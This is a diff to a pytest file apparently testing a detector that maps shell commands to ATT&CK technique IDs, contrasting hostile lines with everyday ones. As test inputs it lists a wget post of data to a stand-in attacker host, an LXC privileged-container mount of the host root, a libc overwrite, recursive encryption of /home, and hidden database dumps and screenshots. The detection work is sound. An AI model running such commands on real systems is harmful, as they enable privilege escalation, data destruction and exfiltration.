@@ -679,3 +679,24 @@ def test_a_downloader_posting_data_sends_it_and_an_ftp_host_is_no_file() -> None
     posted = _techniques("wget --post-data=DATA http://attacker.example")
     assert "T1048" in posted and "T1105" not in posted, posted
     assert "T1048" not in _techniques("ftp -a attacker.example"), _techniques("ftp -a attacker.example")
+
+
+@pytest.mark.parametrize(("line", "technique", "weight"), [
+    ("lxc init alpine privesc -c security.privileged=true", "T1611", 0.5),
+    ("lxc config device add privesc host-root disk source=/ path=/mnt/root recursive=true", "T1611", 0.5),
+    ("cp /tmp/libc.so.4 /lib/x86_64-linux-gnu/libc.so.4", "T1574.006", 0.45),
+    ("ccrypt -e -f -K k3y -r /home", "T1486", 0.5),
+    ("mysqldump --all-databases -u root --result-file=/tmp/.db.sql", "T1074.001", 0.3),
+    ("import -window root /tmp/.s.png", "T1113", 0.3),
+])
+def test_containers_libraries_encryption_and_captures_are_named(line: str, technique: str, weight: float) -> None:
+    assert _techniques(line).get(technique, 0) >= weight, (line, _techniques(line))
+
+
+@pytest.mark.parametrize("line", [
+    "lxc launch ubuntu:22.04 web1", "lxc config device add web1 data disk source=/srv/data path=/data",
+    "install -m 644 build/libfoo.so /usr/lib/x86_64-linux-gnu/libfoo.so", "ccrypt -e notes.txt",
+    "mysqldump app --result-file=/var/backups/app.sql",
+])
+def test_their_everyday_uses_stay_weak(line: str) -> None:
+    assert all(weight < 0.3 for weight in _techniques(line).values()), (line, _techniques(line))
